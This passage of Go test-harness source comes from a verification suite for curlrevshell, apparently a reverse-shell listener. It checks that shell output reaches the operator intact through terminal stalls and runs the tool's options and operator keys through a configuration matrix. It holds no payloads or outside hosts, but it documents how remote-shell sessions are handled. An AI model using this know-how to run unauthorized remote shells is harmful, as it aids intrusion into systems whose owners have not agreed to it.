	"github.com/magisterquis/curlrevshell/verifharness/mon/crs"
)

// Engine "patpty": the patience dimension (see patience.go) on the real
// binary.  The program runs on an ordinary blocking pty with -log; a patient
// shell (/i+/o or /io, chunked) sends a little output, which is displayed,
// then the terminal is not read at all (ptyx.PauseReading: ^S, scroll lock, a
// stalled link) for 4, 11, 16 or about 31 s while the shell sends thousands of
// small TLS writes - more chunks than the kernel's pty buffer, the program's
// 1024-entry operator channel and the broker's queue hold - then the terminal
// is read again, the rest is sent and the stream ends by itself.
//
// Oracle: as in ptyb, the clean terminal text between the callback help and
// the shell's first close/gone notice, minus the attach notices and the
// notice's own prefix, CR LF read as LF, equals the sent bytes exactly; no
// output after the notice.  Measured and floored: at the moment the terminal
// was read again, the program's own log had recorded fewer forwarded output
// bytes than the shell had written (output really was pending inside the
// program, behind the terminal).

type patPtyClass struct {
	secs int
	io   bool
}

func patPtyClasses(thorough bool) []patPtyClass {
	if !thorough {
		return []patPtyClass{{11, true}, {31, false}}
	}
	var cs []patPtyClass
	for k, s := range []int{4, 11, 16, 31, 11, 16, 31, 4} {
		cs = append(cs, patPtyClass{s, (k+k/4)%2 == 0})
	}
	return cs
}

// patPtyForwarded sums the bytes of shell output the program says (in its
// JSON log) it has handed to the operator's side so far.
func patPtyForwarded(path string) (int, error) {
	f, err := os.Open(path)
	if err != nil {
		return 0, err
	}
	defer f.Close()
	n := 0
	br := bufio.NewReaderSize(f, 1<<16)
	for {
		l, err := br.ReadBytes('\n')
		if len(l) > 0 && bytes.Contains(l, []byte(`"Shell I/O"`)) {
			var rec struct {
				Msg       string `json:"msg"`
				Direction string `json:"direction"`
				Data      string `json:"data"`
			}
			if json.Unmarshal(l, &rec) == nil && rec.Msg == "Shell I/O" && rec.Direction == "output" {
				n += len(rec.Data)
			}
		}
		if err != nil {
			return n, nil
		}
	}
}

func patPtySession(r *mon.Run, bin string, i int, c patPtyClass) {
	rng := r.Rng("patpty", i)
	id := fmt.Sprintf("pp%d", i)
	home := filepath.Join(r.Work, fmt.Sprintf("patpty-%d", i))
	logf := filepath.Join(home, "log.json")
	s, err := crs.Start(bin, home, "-listen-address", "127.0.0.1:0", "-tls-certificate-cache", "", "-log", logf)
	if err != nil {
		r.Inconclusive("patpty: binary did not start: " + err.Error())
		return
	}
	defer s.Close()
	base, ok := ptybHelpEnd(s, 0)
	if !ok {
		r.Inconclusive("patpty: no callback help at the start")
		return
	}
	kind := "o"
	if c.io {
		kind = "io"
	}
	class := fmt.Sprintf("stall=%ds|%s", c.secs, kind)
	// 4500-6500 writes of 1-200 bytes (now and then up to 5000)
	var writes [][]byte
	sent := nbGen(rng, id, 450000+rng.IntN(150000), 1+rng.IntN(2))
	for off := 0; off < len(sent); {
		n := 1 + rng.IntN(200)
		if rng.IntN(60) == 0 {
			n = 2000 + rng.IntN(3000)
		}
		n = min(n, len(sent)-off)
		writes = append(writes, sent[off:off+n])
		off += n
	}
	viol := func(key, what string, extra map[string]any) {
		cl := s.P.Clean()
		w := map[string]any{"class": class, "bytes_sent": len(sent), "writes": len(writes), "terminal_tail": fmt.Sprintf("%+q", cl[max(0, len(cl)-600):])}
		for k, v := range extra {
			w[k] = v
		}
		r.Violate("patpty", i, key, what+" (terminal not read for "+fmt.Sprint(c.secs)+" s in the middle of the stream, then read again)", w)
	}
	var in *crs.InStream
	var out *crs.OutStream
	if c.io {
		ios, err := crs.OpenIO(s.Addr)
		if err != nil {
			r.Inconclusive("patpty: " + err.Error())
			return
		}
		in, out = ios.In, ios.Out
	} else {
		in, err = crs.OpenIn(s.Addr, "/i/"+id)
		if err != nil {
			r.Inconclusive("patpty: " + err.Error())
			return
		}
		if _, ok := s.Wait(`Input connected: ID "`+id+`"`, base, crs.Bound); !ok {
			in.Close()
			r.Inconclusive("patpty: no Input connected notice")
			return
		}
		out, err = crs.OpenOut(s.Addr, "/o/"+id)
		if err != nil {
			in.Close()
			r.Inconclusive("patpty: " + err.Error())
			return
		}
	}
	defer in.Close()
	defer out.Close()
	if _, ok := s.Wait(`Shell is ready[^\n]*\n`, base, crs.Bound); !ok {
		r.Inconclusive("patpty: no ready notice")
		return
	}
	// one TLS write per HTTP chunk; the deadline only keeps a broken run from hanging: a
	// write may legitimately have to wait for the whole stall (TCP back-pressure)
	var written atomic.Int64
	send := func(ws [][]byte) error {
		for _, b := range ws {
			out.C.SetWriteDeadline(time.Now().Add(time.Duration(c.secs)*time.Second + 2*crs.Bound))
			if _, err := fmt.Fprintf(out.C, "%x\r\n%s\r\n", len(b), b); err != nil {
				return err
			}
			written.Add(int64(len(b)))
		}
		return nil
	}
	// the beginning of the stream is displayed (the wait shapes the schedule only)
	pre := 5 + rng.IntN(40)
	if err := send(writes[:pre]); err != nil {
		r.Inconclusive("patpty: send: " + err.Error())
		return
	}
	preBytes := int(written.Load())
	for t0 := time.Now(); time.Since(t0) < 5*time.Second; time.Sleep(10 * time.Millisecond) {
		if n, _ := patPtyForwarded(logf); n >= preBytes {
			break
		}
	}
	time.Sleep(50 * time.Millisecond)
	// the terminal stalls; the shell goes on
	tail := 50 + rng.IntN(200) // sent only after the terminal is read again
	s.P.PauseReading()
	t0 := time.Now()
	var sendErr error
	var wg sync.WaitGroup
	wg.Add(1)
	go func() {
		defer wg.Done()
		sendErr = send(writes[pre : len(writes)-tail])
	}()
	time.Sleep(time.Duration(c.secs) * time.Second)
	wr := int(written.Load())
	fw, ferr := patPtyForwarded(logf)
	lasted := time.Since(t0) >= time.Duration(c.secs)*time.Second
	s.P.ResumeReading()
	wg.Wait()
	if sendErr == nil {
		sendErr = send(writes[len(writes)-tail:])
	}
	if sendErr != nil {
		r.Inconclusive(fmt.Sprintf("patpty: shell %s: send failed: %v", class, sendErr))
		return
	}
	if ferr != nil {
		r.Inconclusive("patpty: cannot read the program's log: " + ferr.Error())
		return
	}
	out.End()
	loc, found := s.Wait(`Shell is gone[^\n]*\n`, base, 2*crs.Bound)
	if !found {
		viol("pty-shell-does-not-end", "no gone notice after the output stream ended", nil)
		return
	}
	clean := []byte(s.P.Clean())
	e := ptybEndRe.FindIndex(clean[base:])
	if e == nil || base+e[0] > loc[0] {
		r.Inconclusive("patpty: end notice not found")
		return
	}
	noticeAt := base + e[0]
	region := ptybAttachRe.ReplaceAll(clean[base:noticeAt], nil)
	m := ptybPrefixRe.FindIndex(region)
	if m == nil {
		r.Inconclusive(fmt.Sprintf("patpty: cannot tell the shell's output from the start of the end notice: %+q", region[max(0, len(region)-120):]))
		return
	}
	shown := bytes.ReplaceAll(region[:m[0]], []byte("\r\n"), []byte("\n"))
	div := -1
	for k := range shown {
		if k >= len(sent) || shown[k] != sent[k] {
			div = k
			break
		}
	}
	bad := false
	if div >= 0 {
		bad = true
		viol("terminal-bytes-diverge", fmt.Sprintf("the terminal shows bytes the shell did not send at that place: displayed and sent streams diverge at offset %d (%d displayed, %d sent)", div, len(shown), len(sent)),
			map[string]any{"displayed_around": ptybQ(shown, div, 40), "sent_around": ptybQ(sent, div, 40)})
	} else if len(shown) < len(sent) {
		bad = true
		viol("output-truncated-at-natural-end", fmt.Sprintf("the output stream ended by itself after %d bytes but only %d are on the terminal before the end notice", len(sent), len(shown)),
			map[string]any{"displayed_end": ptybQ(shown, len(shown), 40), "sent_end": ptybQ(sent, len(sent), 40)})
	}
	if k := bytes.Index(clean[noticeAt:], []byte("{"+id+":")); k >= 0 {
		bad = true
		viol("output-after-close-notice", "shell output appears on the terminal after the close/gone notice", map[string]any{"after_notice": ptybQ(clean[noticeAt:], k, 60)})
	}
	s.Quit()
	if bad {
		return
	}
	r.Eval(1)
	r.Distinct(fmt.Sprintf("patpty|%s|%d|%d", class, len(sent), len(writes)))
	r.Count("patpty_sessions", 1)
	r.Count(fmt.Sprintf("patpty_stalls_of_%ds", c.secs), 1)
	if c.secs > 10 {
		r.Count("patpty_stalls_longer_than_10s", 1)
	}
	if lasted {
		r.Count("patpty_stalls_that_lasted_as_planned", 1)
	}
	if fw < wr {
		r.Count("patpty_stalls_with_output_pending_inside_the_program_at_resume", 1)
	}
	r.Count("patpty_bytes_written_by_the_shell_when_the_terminal_was_read_again", int64(wr))
	r.Count("patpty_bytes_forwarded_by_the_broker_when_the_terminal_was_read_again", int64(fw))
	r.Count("patpty_bytes_sent", int64(len(sent)))
	r.Count("patpty_bytes_on_terminal", int64(len(shown)))
	r.Sample("patpty", map[string]any{"class": class, "bytes_sent": len(sent), "writes": len(writes), "bytes_on_terminal": len(shown), "written_at_resume": wr, "forwarded_at_resume": fw})
}

// patPtyStart launches the sessions in the background; the returned function
// waits for them and sets the floors.
func patPtyStart(r *mon.Run) (wait func()) {
	cs := patPtyClasses(r.Thorough())
	var wg sync.WaitGroup
	if r.WantEngine("patpty") {
		wg.Add(1)
		go func() {
			defer wg.Done()
			bin, err := crs.Build(r.Work, "")
			if err != nil {
				r.Inconclusive("cannot build the binary: " + err.Error())
				return
			}
			mon.Parallel(len(cs), 4, func(i int) {
				if r.Want("patpty", i) {
					patPtySession(r, bin, i, cs[i])
				}
			})
		}()
	}
	return func() {
		wg.Wait()
		n, long := int64(len(cs)), int64(0)
		for _, c := range cs {
			if c.secs > 10 {
				long++
			}
		}
		r.Floor("patpty_sessions", n)
		r.Floor("patpty_stalls_that_lasted_as_planned", n)
		r.Floor("patpty_stalls_with_output_pending_inside_the_program_at_resume", n)
		r.Floor("patpty_stalls_longer_than_10s", long)
		r.Floor("patpty_bytes_on_terminal", n*400000)
	}
}

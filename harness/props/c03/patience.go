package c03

import (
	"fmt"
	"io"
	"strings"
	"sync"
	"time"

	"github.com/magisterquis/curlrevshell/lib/opshell"
	"github.com/magisterquis/curlrevshell/verifharness/mon"
	"github.com/magisterquis/curlrevshell/verifharness/mon/bk"
)

// Engine "patience": the PATIENCE of the display path.  The quantifier says
// "for every relative speed of the shell, the broker and the operator's
// terminal": an operator's terminal that takes nothing for a while (^S, scroll
// lock, tmux copy mode, a stalled SSH link) and then carries on is merely a
// very slow terminal.  Nobody pressed Ctrl+O, so every byte the shell sent has
// to be shown exactly once and in order however long the terminal made the
// broker wait.
//
// Each case is one output stream on a fresh broker.  In the middle of the
// stream the consumer of the operator channel stops taking lines
// (bk.StallOperator) for 4, 11, 16 or about 31 seconds (one or two such stalls
// per stream) while the shell has more output pending than the operator
// channel (unbuffered, 1, 2, 16 or 1024 entries), the broker's internal queue
// and the reader can hold, so that the broker sits on a chunk it cannot hand
// over for the whole stall; then the terminal carries on.  The stall lengths
// straddle the round numbers a "give up after N seconds" would use (3, 5, 10,
// 15, 30 s).  Cases need real time, so all of them run at once, beside the
// other engines.
//
// Oracle (no clock in it): the Plain chunks displayed up to a marker line are
// exactly the bytes sent (position code), none after the close notice; the
// close notice is there when a unidirectional stream ended by itself.
// Measured, and floored: that at the moment the terminal carried on the shell
// still had bytes the broker's reader had not even read (the back-pressure
// really reached the broker), and that the stall lasted as long as planned.

type patCase struct {
	stalls []int // seconds
	ochCap int
	kind   string // out, io
}

func (c patCase) String() string {
	return fmt.Sprintf("stalls=%vs|och=%d|%s", c.stalls, c.ochCap, c.kind)
}

var patStallSecs = []int{4, 11, 16, 31}

func patCases(thorough bool) []patCase {
	if !thorough {
		return []patCase{
			{[]int{4}, 0, "out"},
			{[]int{11}, 0, "out"},
			{[]int{11}, 16, "io"},
			{[]int{16}, 1, "out"},
			{[]int{16}, 1024, "io"},
			{[]int{31}, 0, "io"},
			{[]int{31}, 2, "out"},
			{[]int{11}, 1024, "out"},
			{[]int{4, 11}, 0, "io"},
			{[]int{11, 16}, 16, "out"},
			{[]int{4}, 1024, "io"},
			{[]int{31}, 16, "out"},
		}
	}
	var cs []patCase
	k := 0
	for _, s := range patStallSecs {
		for _, c := range []int{0, 1, 2, 16, 1024} {
			for _, kind := range []string{"out", "io"} {
				cs = append(cs, patCase{[]int{s}, c, kind})
			}
		}
	}
	for _, ss := range [][]int{{4, 11}, {11, 4}, {11, 16}, {16, 11}, {4, 4, 11, 11}, {11, 11}, {4, 16, 4}, {16, 4, 11}} {
		for _, c := range []int{0, 16, 1024} {
			cs = append(cs, patCase{ss, c, []string{"out", "io"}[k%2]})
			k++
		}
	}
	return cs
}

// patBytesRead: how many bytes the broker's reader has taken from the
// transport so far (from the harness reader's own record of its Read calls).
func patBytesRead(w *bk.World, att int) int {
	n := 0
	for _, e := range w.Log.Snapshot() {
		if e.Kind == "r" && e.Att == att {
			n += e.N
		}
	}
	return n
}

func patCaseRun(r *mon.Run, idx int, c patCase) {
	rng := r.Rng("patience", idx)
	w, err := bk.NewWorld(c.ochCap, 64)
	if err != nil {
		r.Inconclusive("patience: " + err.Error())
		return
	}
	var sizes []string
	viol := func(key, what string) {
		d := strings.Join(sizes, ",")
		if len(d) > 400 {
			d = d[:400] + "…"
		}
		r.Violate("patience", idx, key, what+" ("+c.String()+")", map[string]any{"case": c.String(), "stalls_s": c.stalls, "och_cap": c.ochCap, "kind": c.kind, "reads": d, "log_tail": w.Log.Tail(30)})
	}
	var out *bk.Attempt
	if c.kind == "io" {
		out = w.NewAttempt("io", "", bk.WFlusher)
	} else {
		out = w.NewAttempt("out", "k", bk.WPlain)
	}
	out.Start()
	if _, ok := w.Log.Wait(0, bk.Bound, func(e bk.Event) bool {
		return e.Kind == "slog" && e.Att == out.ID && e.Dir == "output" && e.S == bk.MsgNew
	}); !ok {
		r.Inconclusive("patience: output stream not admitted")
		w.Close()
		return
	}
	total := 0
	push := func(n int, e error) {
		var items []bk.ReadItem
		for k := 0; k < n; k++ {
			sz := 1 + rng.IntN(300)
			switch rng.IntN(12) {
			case 0:
				sz = 2048
			case 1:
				sz = 2049 + rng.IntN(3000)
			}
			b := make([]byte, sz)
			for j := range b {
				b[j] = posByte(total + j)
			}
			total += sz
			items = append(items, bk.ReadItem{Data: b})
			sizes = append(sizes, fmt.Sprint(sz))
		}
		if e != nil {
			if n > 0 && rng.IntN(2) == 0 {
				items[len(items)-1].Err = e // data together with the error
				sizes[len(sizes)-1] += "+" + e.Error()
			} else {
				items = append(items, bk.ReadItem{Err: e})
				sizes = append(sizes, e.Error())
			}
		}
		out.Rd.Push(items...)
	}
	waitShown := func(target int, d time.Duration) bool {
		shown := 0
		_, ok := w.Log.Wait(0, d, func(e bk.Event) bool {
			if e.Kind == "op" && e.Plain {
				shown += len(e.S)
			}
			return shown >= target
		})
		return ok
	}
	natural := idx%3 != 0 // by index, so that every run has both endings
	termErr := []error{io.EOF, io.ErrUnexpectedEOF, io.ErrClosedPipe, errCustom}[rng.IntN(4)]
	errPushed := false
	lagging := false // the display fell behind for good: go straight to the oracle
	pendingStalls, lastedStalls := 0, 0
	var executed []int
	for si, secs := range c.stalls {
		// the part of the stream before the stall is displayed first: the stall is in the middle of the stream
		push(1+rng.IntN(6), nil)
		if !waitShown(total, 3*bk.Bound) {
			lagging = true
			break
		}
		resume := w.StallOperator()
		// more than the operator channel, the terminal's hand, the broker's queue and its reader can hold
		var e error
		if natural && si == len(c.stalls)-1 && idx%2 == 0 {
			e, errPushed = termErr, true // the end of the stream, too, waits behind the stalled terminal
		}
		push(c.ochCap+12+rng.IntN(24), e)
		t0 := time.Now()
		time.Sleep(time.Duration(secs) * time.Second)
		if patBytesRead(w, out.ID) < total {
			pendingStalls++
		}
		if time.Since(t0) >= time.Duration(secs)*time.Second {
			lastedStalls++
		}
		resume()
		executed = append(executed, secs)
	}
	switch {
	case lagging:
		out.Cancel()
		select {
		case <-out.Ret:
		case <-time.After(bk.Bound):
		}
	case natural:
		if !errPushed {
			push(rng.IntN(4), termErr)
		}
		if _, ok := w.Log.Wait(0, 3*bk.Bound, func(e bk.Event) bool {
			return e.Kind == "hook" && e.Att == out.ID && e.Dir == "output" && e.S == "done"
		}); !ok {
			viol("output-stream-does-not-end", fmt.Sprintf("the reader returned %s but the output direction did not finish", termErr))
		}
		if c.kind == "io" {
			out.Cancel()
		}
		select {
		case <-out.Ret:
		case <-time.After(bk.Bound):
			viol("output-stream-does-not-end", "Connect did not return after the output ended and the request context was cancelled")
		}
	default:
		// the shell stays attached and says nothing more: what it said is shown (bounded progress), then the request goes away
		push(rng.IntN(4), nil)
		lagging = !waitShown(total, 3*bk.Bound)
		out.Cancel()
		select {
		case <-out.Ret:
		case <-time.After(bk.Bound):
			viol("output-stream-does-not-end", "ConnectOut did not return after cancellation")
		}
	}
	w.Och <- opshell.CLine{Line: "MARK"}
	mev, ok := w.Log.Wait(0, bk.Bound, func(e bk.Event) bool { return e.Kind == "op" && e.S == "MARK" && !e.Plain })
	if !ok {
		r.Inconclusive("patience: marker not seen")
		w.Close()
		return
	}
	var shown []byte
	closedSeen := false
	chunks := 0
	for _, e := range w.Log.Snapshot()[:mev.Seq] {
		if e.Kind != "op" {
			continue
		}
		if e.Plain {
			if closedSeen {
				viol("output-after-close-notice", fmt.Sprintf("chunk of %d bytes displayed after the output-closed notice", len(e.S)))
			}
			shown = append(shown, e.S...)
			chunks++
		} else if closedRe.MatchString(e.S) {
			closedSeen = true
		}
	}
	diverged := false
	for i, b := range shown {
		if i >= total || b != posByte(i) {
			diverged = true
			viol("output-not-a-prefix", fmt.Sprintf("after the operator's terminal had stalled and carried on, the displayed bytes diverge from the sent stream at offset %d of %d displayed / %d sent (displayed chunks %d): output lost, repeated or reordered", i, len(shown), total, chunks))
			break
		}
	}
	if !diverged && len(shown) < total {
		if natural && !lagging {
			viol("output-truncated-at-natural-end", fmt.Sprintf("the stream ended by itself (%s) after %d bytes but only %d were displayed", termErr, total, len(shown)))
		} else {
			viol("output-withheld-while-shell-quiet", fmt.Sprintf("the terminal takes lines again and the shell, still attached, has nothing more to say, but only %d of the %d bytes it sent were displayed within %s", len(shown), total, 3*bk.Bound))
		}
	}
	if natural && !lagging && !closedSeen && c.kind != "io" {
		viol("close-notice-missing", "a unidirectional output stream ended by itself but no output-closed notice was shown")
	}
	for _, a := range w.Close() {
		viol("connect-does-not-return", fmt.Sprintf("attempt %d did not return at the end of the case", a.ID))
	}
	r.Eval(1)
	r.Distinct("patience|" + c.String() + "|" + strings.Join(sizes, ","))
	r.Count("patience_cases", 1)
	r.Count("patience_stalls", int64(len(executed)))
	r.Count("patience_stalls_with_unread_output_pending_at_resume", int64(pendingStalls))
	r.Count("patience_stalls_that_lasted_as_planned", int64(lastedStalls))
	for _, s := range executed {
		r.Count(fmt.Sprintf("patience_stalls_of_%ds", s), 1)
		if s > 10 {
			r.Count("patience_stalls_longer_than_10s", 1)
		}
	}
	if c.ochCap == 0 {
		r.Count("patience_cases_unbuffered_operator_channel", 1)
	} else {
		r.Count("patience_cases_buffered_operator_channel", 1)
	}
	if c.ochCap == 1024 {
		r.Count("patience_cases_operator_channel_of_1024", 1)
	}
	if len(c.stalls) > 1 {
		r.Count("patience_cases_with_several_stalls", 1)
	}
	if natural {
		r.Count("patience_natural_ends", 1)
		if errPushed {
			r.Count("patience_stream_end_pending_behind_the_stall", 1)
		}
	} else {
		r.Count("patience_cancelled_ends", 1)
	}
	r.Count("patience_bytes_sent", int64(total))
	r.Count("patience_bytes_displayed", int64(len(shown)))
	if idx < 2 {
		r.Sample("patience", map[string]any{"case": c.String(), "bytes_sent": total, "bytes_displayed": len(shown), "chunks_displayed": chunks, "natural_end": natural})
	}
}

// patienceStart launches the patience cases (broker level and real binary)
// in the background; the returned function waits for them and sets the floors.
func patienceStart(r *mon.Run) (wait func()) {
	cases := patCases(r.Thorough())
	var wg sync.WaitGroup
	ran := r.WantEngine("patience")
	if ran {
		for i, c := range cases {
			if !r.Want("patience", i) {
				continue
			}
			wg.Add(1)
			go func() {
				defer wg.Done()
				patCaseRun(r, i, c)
			}()
		}
	}
	ptyWait := patPtyStart(r)
	return func() {
		wg.Wait()
		ptyWait()
		nst, long := 0, 0
		per := map[int]int{}
		for _, c := range cases {
			nst += len(c.stalls)
			for _, s := range c.stalls {
				per[s]++
				if s > 10 {
					long++
				}
			}
		}
		r.Floor("patience_cases", int64(len(cases)))
		r.Floor("patience_stalls", int64(nst))
		r.Floor("patience_stalls_with_unread_output_pending_at_resume", int64(nst))
		r.Floor("patience_stalls_that_lasted_as_planned", int64(nst))
		for _, s := range patStallSecs {
			r.Floor(fmt.Sprintf("patience_stalls_of_%ds", s), int64(per[s]))
		}
		r.Floor("patience_stalls_longer_than_10s", int64(long))
		r.Floor("patience_cases_unbuffered_operator_channel", 3)
		r.Floor("patience_cases_buffered_operator_channel", 3)
		r.Floor("patience_cases_operator_channel_of_1024", 2)
		r.Floor("patience_cases_with_several_stalls", 2)
		r.Floor("patience_bytes_displayed", 100000)
		r.Floor("patience_natural_ends", int64(len(cases)/2))
		r.Floor("patience_cancelled_ends", int64(len(cases)/4))
		r.Floor("patience_stream_end_pending_behind_the_stall", int64(len(cases)/6))
	}
}

package c12

// The keys engine: the configuration matrix and the operator's OTHER keys.
//
// The other engines run the program with -one-shell and at most
// -serve-files-from / -no-timestamps / -log, and their operator only types
// lines.  Nothing in the statement depends on the rest of the configuration
// or on which keys the operator uses, so every case here is an ordinary full
// case (fullShell: junk before, traffic across the listener close, an ending,
// the one entered line; same oracle) run under the program's other documented
// options, each alone and in pairs drawn by index:
//
//	-ctrl-i            not given | a file (.subr, .sh: converted; .txt: sent as it is) | a directory (several
//	                   files, a dot file, an unconverted file, a sub-directory) | a missing file; names plain,
//	                   with a space, with a %; content generated: shell functions with "# TABDOC:" lines of every
//	                   shape (name and description, name only, tab-separated, extra blanks, prefix only, no blank
//	                   after the colon, quotes, trailing blank, a %, indented, non-ASCII); a few functions,
//	                   dozens, or more than 1100 lines (more than the 1024 entries the program's input queue holds)
//	-callback-address  none | one | 24
//	-callback-template not given | a file | a symlink to it | a missing file
//	-ipv6-one-liners, -prompt, and the spellings -flag value | -flag=value | --flag value | --flag=value
//	(-serve-files-from, -no-timestamps, -log are drawn as in the other engines)
//
// and the operator presses Tab (= Ctrl+I, the same byte: insert), Ctrl+J
// (print what would be inserted) and Ctrl+O (mute)
//
//	during  while the one shell is attached, after the listener was seen closed and the bulk of the traffic
//	        has passed: after a Tab the fake shell must receive the generated content (every non-empty line
//	        of the files, in order, between the typed line before and the typed line after the key); the
//	        program must not end; 30 more lines and tokens pass afterwards and ALL traffic is compared as
//	        always (while muted only lines are typed and unnumbered output is sent, and numbered tokens go on
//	        only after the program's "Unmuting" notice);
//	after   after the shell has gone, before the one entered line: the program must still exit with status 0
//	        at the one entered line at the latest, without callback help.
//
// What the keys print on the terminal is not this property: it is waited for
// (bounded) only to order the harness' next step, and counted.
//
// One more engine ("icanhazip"): -one-shell -icanhazip.  Without network the
// program gives up before it listens (exit status 2); nothing of the statement
// applies then and the run is only counted.  Should it start, it is closed.

import (
	"fmt"
	"math/rand/v2"
	"os"
	"path/filepath"
	"regexp"
	"sort"
	"strings"
	"time"

	"github.com/magisterquis/curlrevshell/internal/hsrv"
	"github.com/magisterquis/curlrevshell/verifharness/mon"
	"github.com/magisterquis/curlrevshell/verifharness/mon/crs"
)

// keyShapes: -ctrl-i source and the keys, stratified by index: twelve
// consecutive cases (the quick tier) hold every source kind, every size, every
// key in both phases, and Tab after the shell has gone with a large source
// three times; the seed rotates everything else.
var keyShapes = []struct {
	ctrlI, ext, size string
	during, after    []string
}{
	{"file", ".subr", "small", []string{"tab"}, []string{"tab"}},
	{"dir", "", "large", nil, []string{"tab"}},
	{"file", ".sh", "large", []string{"tab"}, []string{"ctrl-j", "tab"}},
	{"", "", "", []string{"tab", "ctrl-j"}, []string{"tab", "ctrl-o"}},
	{"dir", "", "medium", []string{"ctrl-o", "tab"}, []string{"ctrl-j"}},
	{"file", ".txt", "medium", []string{"ctrl-j"}, []string{"ctrl-o", "tab"}},
	{"missing", ".subr", "", []string{"tab"}, []string{"ctrl-j", "tab"}},
	{"file", ".subr", "large", []string{"ctrl-o"}, []string{"tab", "tab"}},
	{"dir", "", "small", []string{"tab", "tab"}, nil},
	{"file", ".sh", "small", []string{"ctrl-j", "ctrl-o"}, []string{"tab", "ctrl-j"}},
	{"dir", "", "large", []string{"tab"}, []string{"ctrl-o"}},
	{"file", ".txt", "medium", nil, []string{"tab", "ctrl-j", "ctrl-o"}},
}

var (
	keyPrompts = []string{"-", "sh> ", "one shell > ", ">"}
	keyTmpls   = []string{"", "file", "symlink", "missing"}
	keyCBs     = []int{0, 1, 24}
	keyNames   = []string{"plain", "space", "percent"}
)

func makeKeysCfg(rng *rand.Rand, k, rot int) Cfg {
	c := Cfg{Index: k, Kind: "full", Engine: "keys"}
	c.NoTS = rng.IntN(2) == 0
	c.Files = rng.IntN(2) == 0
	c.PollRST = true
	c.SelfWait = 1500
	c.ID = fmt.Sprintf("y%x", rng.Uint32())
	sh := keyShapes[k%len(keyShapes)]
	c.CtrlI, c.CtrlIExt, c.CtrlISize = sh.ctrlI, sh.ext, sh.size
	c.KeysDuring, c.KeysAfter = sh.during, sh.after
	if k >= len(keyShapes) {
		// beyond the first round the keys are drawn
		keys := []string{"tab", "ctrl-j", "ctrl-o", "tab"}
		c.KeysDuring, c.KeysAfter = nil, nil
		for n := rng.IntN(3); n > 0; n-- {
			c.KeysDuring = append(c.KeysDuring, keys[rng.IntN(len(keys))])
		}
		for n := rng.IntN(4); n > 0; n-- {
			c.KeysAfter = append(c.KeysAfter, keys[rng.IntN(len(keys))])
		}
		if len(c.KeysDuring)+len(c.KeysAfter) == 0 {
			c.KeysAfter = []string{"tab"}
		}
	}
	if c.CtrlI != "" {
		c.CtrlIName = keyNames[(k/2+rot)%len(keyNames)]
	}
	// the other options: periods 3, 4, 2, 4 (shifted), so that twelve consecutive cases pair every value with every other
	c.CBAddrs = keyCBs[(k+rot)%3]
	c.Tmpl = keyTmpls[(k+rot/3)%4]
	c.IPv6 = (k/2+rot)%2 == 0
	c.Prompt = keyPrompts[(k/3+rot)%4]
	c.Spelling = (k + rot) % 4
	c.Order = []string{"i-o", "o-i", "io"}[(k+rot)%3]
	c.Junk = []string{"none", "half-dies", "wrong-id", "duplicate"}[rng.IntN(4)]
	c.JunkWhere = "pre"
	c.Traffic = traffics[rng.IntN(len(traffics))]
	c.NTok, c.NLines = 80, 80
	c.Log = []string{"", "file", "devnull", "env-file", ""}[rng.IntN(5)]
	c.OneCPU = rng.IntN(4) == 0
	switch c.Order {
	case "io":
		c.Ending = []string{"io-end", "io-close"}[rng.IntN(2)]
	default:
		c.Ending = []string{"out-end", "out-close", "in-close", "both"}[rng.IntN(4)]
	}
	return c
}

// ---- the configuration ----------------------------------------------------------

// insertSrc is what -ctrl-i names.
type insertSrc struct {
	Path   string
	Expect []string // the non-empty lines of the generated files, in the order they are to be inserted; nil: nothing can be inserted
	Lines  int
	Shapes []string // the TABDOC shapes the content holds
}

// opt spells one flag.
func opt(sp int, name string, val *string) []string {
	dash := "-"
	if sp >= 2 {
		dash = "--"
	}
	switch {
	case val == nil && sp%2 == 1:
		return []string{dash + name + "=true"}
	case val == nil:
		return []string{dash + name}
	case sp%2 == 1:
		return []string{dash + name + "=" + *val}
	}
	return []string{dash + name, *val}
}

var tabdocShapes = []string{"desc", "name-only", "tab-separated", "extra-blanks", "prefix-only", "no-blank-after-colon", "quote", "trailing-blank", "percent", "indented", "non-ascii"}

func tabdocLine(shape, name string) string {
	switch shape {
	case "name-only":
		return "# TABDOC: " + name
	case "tab-separated":
		return "# TABDOC: " + name + "\tdescribed after a tab"
	case "extra-blanks":
		return "# TABDOC:    " + name + "     spaced    out   "
	case "prefix-only":
		return "# TABDOC:"
	case "no-blank-after-colon":
		return "# TABDOC:" + name + " glued to the colon"
	case "quote":
		return "# TABDOC: " + name + " it's \"quoted\""
	case "trailing-blank":
		return "# TABDOC: " + name + " "
	case "percent":
		return "# TABDOC: " + name + " 100%s done %d%%"
	case "indented":
		return "  # TABDOC: " + name + " not at the start of the line"
	case "non-ascii":
		return "# TABDOC: " + name + " déjà vu — fertig"
	}
	return "# TABDOC: " + name + " does what " + name + " does"
}

// genFunctions writes n shell functions (lower-case letters, digits and
// punctuation only: nothing in them can look like an output token or a typed
// line).  first is the index of the first function.  Large sources use
// one-line functions and document every 40th.
func genFunctions(id string, first, n int, oneLine bool, shapeOff int, shapes map[string]bool) string {
	var b strings.Builder
	for j := first; j < first+n; j++ {
		name := fmt.Sprintf("fn%d_%s", j, id)
		if !oneLine || j%40 == 0 {
			d := j
			if oneLine {
				d = j / 40
			}
			sh := tabdocShapes[(d+shapeOff)%len(tabdocShapes)]
			shapes[sh] = true
			b.WriteString(tabdocLine(sh, name) + "\n")
		}
		if oneLine {
			fmt.Fprintf(&b, "%s() { echo m-%s-%d; }\n", name, id, j)
			continue
		}
		fmt.Fprintf(&b, "%s() {\n\techo m-%s-%d-a\n\techo m-%s-%d-b\n}\n\n", name, id, j, id, j)
	}
	return b.String()
}

func nonEmptyLines(s string) []string {
	var out []string
	for _, l := range strings.Split(s, "\n") {
		if strings.TrimSpace(l) != "" {
			out = append(out, l)
		}
	}
	return out
}

// matrixArgs prepares the files of a keys case and returns the flags.
func matrixArgs(c Cfg, home string, rng *rand.Rand) ([]string, *insertSrc, error) {
	var args []string
	sp := c.Spelling
	var ins *insertSrc
	if c.CtrlI != "" {
		base := map[string]string{"plain": "funcs", "space": "my funcs", "percent": "50%funcs %s"}[c.CtrlIName]
		ins = &insertSrc{}
		shapes := map[string]bool{}
		nf, oneLine := 3+rng.IntN(6), false
		switch c.CtrlISize {
		case "medium":
			nf = 24 + rng.IntN(20)
		case "large":
			nf, oneLine = 1100+rng.IntN(1900), true
		}
		off := rng.IntN(len(tabdocShapes))
		switch c.CtrlI {
		case "missing":
			ins.Path = filepath.Join(home, base+c.CtrlIExt)
		case "file":
			ins.Path = filepath.Join(home, base+c.CtrlIExt)
